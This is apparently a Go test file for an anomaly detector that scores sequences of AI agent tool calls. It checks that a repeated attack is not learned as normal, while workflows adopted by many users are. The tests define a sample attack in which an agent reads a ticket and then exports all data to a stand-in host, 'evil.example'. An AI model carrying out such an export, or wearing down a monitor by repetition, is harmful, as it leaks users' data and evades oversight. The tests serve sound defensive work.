package sequence_test

import (
	"fmt"
	"math/rand/v2"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"

	"github.com/otelcol-mcp/otelcol-mcp/internal/anomaly/sequence"
)

var attack = calls{{Tool: "read_ticket", Arguments: `{"id":"T-000001"}`}, {Tool: "export_all", Arguments: `{"to":"https://evil.example"}`}}

func TestOneSessionThatRepeatsAnAttackDoesNotMakeItUsual(t *testing.T) {
	m, at := taught(sequence.Options{}, 300, support)
	s := by(666)
	for range 10_000 {
		judge(m, &s, attack)
	}
	m.End(&s, at)
	assert.GreaterOrEqual(t, look(m, attack).Score, sequence.Flag)
}

// The principal ends a session every minute for a week, while others go on as usual.
func TestOnePrincipalThatRepeatsAnAttackDoesNotMakeItUsual(t *testing.T) {
	tests := map[string]func(i int) calls{
		"the same attack": func(int) calls { return attack },
		"an attack of another spelling each time": func(i int) calls {
			return append(calls{{Tool: fmt.Sprint("noise ", i)}}, attack...)
		},
	}
	for name, of := range tests {
		t.Run(name, func(t *testing.T) {
			m, at := taught(sequence.Options{}, 300, support)
			r := rand.New(rand.NewPCG(7, 8))
			for i := range 10_000 {
				at = at.Add(time.Minute)
				run(m, by(666), of(i), at)
				if i%60 == 0 {
					run(m, by(1000+i), support(r), at)
				}
			}
			assert.GreaterOrEqual(t, look(m, attack).Score, sequence.Flag)
		})
	}
}

// Each of thirty users has usual sessions, too.
func TestAWorkflowThatManyAdoptBecomesUsual(t *testing.T) {
	m, at := taught(sequence.Options{}, 300, support)
	r := rand.New(rand.NewPCG(7, 8))
	fresh := calls{{Tool: "summarize", Arguments: `{"style":"short"}`}, {Tool: "archive", Arguments: `{"years":7}`}}
	assert.GreaterOrEqual(t, look(m, fresh).Score, sequence.Flag)
	flagged := 0
	for who := range 30 {
		if run(m, by(who), fresh, at).Score >= sequence.Flag {
			flagged++
		}
		for range 9 {
			at = at.Add(10 * time.Minute)
			run(m, by(who), support(r), at)
		}
	}
	assert.Less(t, look(m, fresh).Score, sequence.Flag)
	assert.Less(t, flagged, 15, "of 30 who adopt it, so many were flagged")
}

func TestSessionsWithoutPrincipalConfirmByDay(t *testing.T) {
	m, at := taught(sequence.Options{}, 300, support)
	r := rand.New(rand.NewPCG(7, 8))
	day := func() {
		for range 8 {
			run(m, sequence.Session{}, attack[1:], at)
			for range 49 {
				run(m, sequence.Session{}, support(r), at)
			}
		}
		at = at.Add(24 * time.Hour)
	}
	day()
	assert.GreaterOrEqual(t, look(m, attack[1:]).Score, sequence.Flag)
	for range 12 {
		day()
	}
	assert.Less(t, look(m, attack[1:]).Score, sequence.Flag)
}

func TestASessionThatIsKnownToBeUsualTeaches(t *testing.T) {
	m, at := taught(sequence.Options{}, 300, support)
	s := by(1)
	s.Usual = true
	run(m, s, attack, at)
	assert.Less(t, look(m, attack).Score, sequence.Flag)
}
